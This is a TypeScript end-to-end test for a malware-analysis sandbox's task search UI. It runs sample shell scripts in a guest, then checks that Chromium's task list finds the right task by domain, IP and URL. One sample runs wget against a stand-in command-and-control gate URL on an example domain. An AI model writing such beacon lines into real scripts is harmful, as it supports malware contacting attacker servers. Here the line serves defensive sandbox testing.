// The task search end to end, as an analyst uses it: two shell samples really run on a network-
// namespace guest (physical driver, `aviary agent`, namespace avsx27), one fetching a URL by name
// (the guest's fake internet answers the DNS query and the HTTP request), the other quiet; the
// engine captures, processes and indexes them. In Debian's Chromium, through playwright-core, the
// built UI's task list then finds the fetcher's task by the parent of the domain it resolved, by the
// address DNS gave (the kind picked next to the box) and by the URL, and never the quiet one; a
// query the service could not mean is said at the box; sorting by score follows the service.
// axe-core checks the states in both themes; the page throws nothing. Screenshots go to
// test-results/ui-e2e/ (not committed).
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { mkdirSync, readFileSync } from 'node:fs'
import path from 'node:path'
import { chromium, type Browser, type Page } from 'playwright-core'
import type { NetnsGuest } from '../guests/netns-guest'
import { startNetnsAnalysisNode } from '../guests/netns-analysis-node'
import type { Harness } from '../service-harness'
import { submitFile, waitForTask } from '../e2e/e2e-helpers'
import type { TaskSearchResult } from '../../src/shared/api/ui-schemas'

const SHOTS = path.resolve('test-results/ui-e2e')
const AXE = readFileSync(path.resolve('node_modules/axe-core/axe.min.js'), 'utf8')
const FETCHER = `#!/bin/sh
wget -q -O /tmp/sx-page.html 'http://c2.search-e2e.example/gate.php?id=7'
echo fetched > /tmp/sx-dropped.txt
`
const QUIET = '#!/bin/sh\necho quiet > /tmp/sx-quiet.txt\n'

interface AxeResult { violations: { id: string; impact: string | null; nodes: { target: string[] }[] }[] }
interface InPage { axe: { run(context: unknown, options: unknown): Promise<AxeResult> } }

let guest: NetnsGuest
let h: Harness
let browser: Browser
let page: Page
let fetcher = 0
let quiet = 0
const errors: string[] = []

beforeAll(async () => {
  mkdirSync(SHOTS, { recursive: true })
  ;({ guest, h } = await startNetnsAnalysisNode({ index: 27, prefix: 'avsx' }))
  fetcher = await submitFile(h, 'fetcher.sh', FETCHER, { timeout: '30' })
  quiet = await submitFile(h, 'quiet.sh', QUIET, { timeout: '30' })
  for (const id of [fetcher, quiet]) expect(await waitForTask(h, id, ['reported', 'failed_analysis', 'failed_processing'], 150_000)).toBe('reported')
  browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: ['--no-sandbox'] })
  page = await browser.newPage({ viewport: { width: 1280, height: 900 } })
  page.on('pageerror', (err) => errors.push(err.message))
}, 330_000)

afterAll(async () => {
  await browser?.close()
  await h?.stop()
  await guest?.close()
})

const rows = () => page.getByRole('grid', { name: 'Tasks' }).locator('[role="row"][data-task-id]')
const shownIds = async () => (await rows().evaluateAll((rs) => rs.map((r) => Number(r.getAttribute('data-task-id')))))
const box = () => page.getByRole('searchbox', { name: 'Search tasks' })

/**
 * axe-core's serious and critical findings in the search and filters (what this file drives; the
 * rest of the page is the UI e2e's), in the light and the dark theme.
 */
async function axeFindings(name: string): Promise<string[]> {
  const found: string[] = []
  for (const theme of ['light', 'dark']) {
    await page.getByLabel('Theme').selectOption(theme)
    await page.screenshot({ path: path.join(SHOTS, `${name}-${theme}.png`), fullPage: true })
    await page.evaluate(AXE)
    const r = await page.evaluate(() => (globalThis as unknown as InPage).axe.run('[role="search"]', { resultTypes: ['violations'] }))
    found.push(...r.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical')
      .map((v) => `${theme} ${v.id}: ${v.nodes.slice(0, 3).map((n) => n.target.join(' ')).join(', ')}`))
  }
  await page.getByLabel('Theme').selectOption('light')
  return found
}

describe('the task search in Chromium, on real analyses', () => {
  it('the fetcher really resolved the name and fetched the URL; its report has them', async () => {
    expect(guest.dns.queries).toContain('c2.search-e2e.example')
    const report = (await h.json<{ network: { domains: { domain: string; ip: string }[]; http: { uri: string }[] } }>(`/tasks/report/${fetcher}`)).body
    expect(report.network.domains).toContainEqual({ domain: 'c2.search-e2e.example', ip: guest.internetIp })
    expect(report.network.http.map((x) => x.uri)).toContain('http://c2.search-e2e.example/gate.php?id=7')
  })

  it('finds the fetcher by the parent of the domain it resolved, typed as domain:…, and not the quiet one', async () => {
    await page.goto(`${h.url}/#/tasks`)
    await expect.poll(async () => (await shownIds()).sort()).toEqual([fetcher, quiet].sort())
    await box().fill('domain:search-e2e.example')
    await expect.poll(shownIds, { timeout: 10_000 }).toEqual([fetcher])
    expect(await page.getByTestId('task-count').textContent()).toBe('1 task')
    expect(await rows().first().textContent()).toContain('fetcher.sh')
    expect(await axeFindings('search-domain')).toEqual([])
  })

  it('finds it by the address DNS gave, with the kind picked next to the box, and by the URL as plain text', async () => {
    await box().fill('')
    await page.getByRole('combobox', { name: 'Search in' }).selectOption({ label: 'IP address' })
    await box().fill(guest.internetIp)
    await expect.poll(shownIds, { timeout: 10_000 }).toEqual([fetcher])
    await page.getByRole('combobox', { name: 'Search in' }).selectOption({ label: 'Everything' })
    await box().fill('c2.search-e2e.example/gate.php')
    await expect.poll(shownIds, { timeout: 10_000 }).toEqual([fetcher])
    await box().fill('domain:nowhere-e2e.example')
    await expect.poll(shownIds, { timeout: 10_000 }).toEqual([])
    await expect.poll(() => page.getByText('No tasks match.').count()).toBe(1)
  })

  it('says at the box what a kind cannot be', async () => {
    await box().fill('ip:not-an-address')
    const alert = page.getByRole('alert')
    await alert.waitFor()
    expect(await alert.textContent()).toBe("ip: wants an IPv4 or IPv6 address (got 'not-an-address')")
    await page.getByText('Search syntax').click()
    expect(await axeFindings('search-problem')).toEqual([])
    await page.getByText('Search syntax').click()
    await box().fill('')
  })

  it('sorts by score as the service does, and filters by category', async () => {
    await page.getByRole('combobox', { name: 'Sort tasks' }).selectOption({ label: 'Highest score first' })
    const bySvc = (await h.json<TaskSearchResult>('/aviary/tasks?sort=score')).body.tasks.map((t) => t.id)
    await expect.poll(shownIds, { timeout: 10_000 }).toEqual(bySvc)
    await page.getByRole('group', { name: 'Filter by category' }).getByRole('button', { name: 'URL' }).click()
    await expect.poll(shownIds, { timeout: 10_000 }).toEqual([])
    await page.getByRole('group', { name: 'Filter by category' }).getByRole('button', { name: 'file' }).click()
    await expect.poll(shownIds, { timeout: 10_000 }).toEqual(bySvc)
    expect(errors).toEqual([])
  })
})
